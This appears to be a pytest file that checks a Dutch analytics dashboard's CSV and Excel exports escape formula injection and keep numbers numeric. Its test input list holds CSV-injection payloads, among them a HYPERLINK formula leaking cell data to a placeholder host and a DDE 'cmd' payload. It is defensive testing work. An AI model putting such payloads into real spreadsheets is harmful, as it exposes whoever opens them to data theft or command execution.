"""The Netwerk page's CSV and Excel files never carry a live formula: a text cell that starts
with =, +, -, @, a tab or a carriage return gets a leading apostrophe (OWASP's rule for CSV
injection), in every CSV and every sheet; numbers, negative ones too, stay numbers."""

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from hgs.analytics import dashboard, sheets
from hgs.i18n import using
from tests.test_network import DAY, frames_of, make_network

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A2,"Klik hier")', "+31 6 1234", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_every_formula_start_gets_an_apostrophe_in_the_csv_and_numbers_stay_numbers():
    table = pd.DataFrame({"organisatie": [*HOSTILE, "De Regenboog", "-"],
                          "casussen": [-3, 5, 6, 7, 8, 9, 10, 11, 12],
                          "gedaan (%)": [-2.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.5]})
    for lang, sep in (("nl", ";"), ("en", ",")):
        rows = list(csv.reader(io.StringIO(sheets.to_csv(table, lang).decode("utf-8-sig"),
                                           newline=""), delimiter=sep))
        names = [row[0] for row in rows[1:]]
        expected = [f"'{value}" for value in HOSTILE] + ["De Regenboog", "'-"]
        # a carriage return inside a cell comes as a line break (quoted; a bare \r is not)
        assert names == [value.replace("\r", "\n") for value in expected]
        assert rows[1][1:] == ["-3", "-2,5" if lang == "nl" else "-2.5"]  # numbers as typed


def test_no_sheet_of_the_workbook_holds_a_formula_and_numbers_stay_numbers(tmp_path):
    store, orgs = make_network(tmp_path, {HOSTILE[0]: 5, "@SUM(A1:A9)": 5, "-2+3": 6})
    book = openpyxl.load_workbook(io.BytesIO(dashboard.workbook(
        frames_of(tmp_path, orgs), "Q", DAY + dt.timedelta(days=200), 8, "nl")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {f"'{HOSTILE[0]}", "'@SUM(A1:A9)", "'-2+3"} <= texts
    assert not any(isinstance(v, str) and v[:1] in "=+-@\t\r" for v in texts)
    by_org = book["MDO per organisatie"]
    assert [c.value for c in by_org[1]][:3] == ["organisatie", "casussen", "MDO's"]
    assert {type(c.value) for c in by_org["B"][1:]} == {int}  # the counts are numbers


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_an_excel_sheet_of_a_hand_made_table_keeps_negative_numbers(lang):
    table = pd.DataFrame({"organisatie": ["=1+1", "B"], "T-score": [-2.5, 40.0]})
    with using(lang):
        book = openpyxl.load_workbook(io.BytesIO(sheets.to_excel({"T-scores": table})))
    sheet = book.worksheets[0]
    assert [sheet["A2"].value, sheet["B2"].value, sheet["B3"].value] == ["'=1+1", -2.5, 40]
    assert sheet["A2"].data_type == "s"
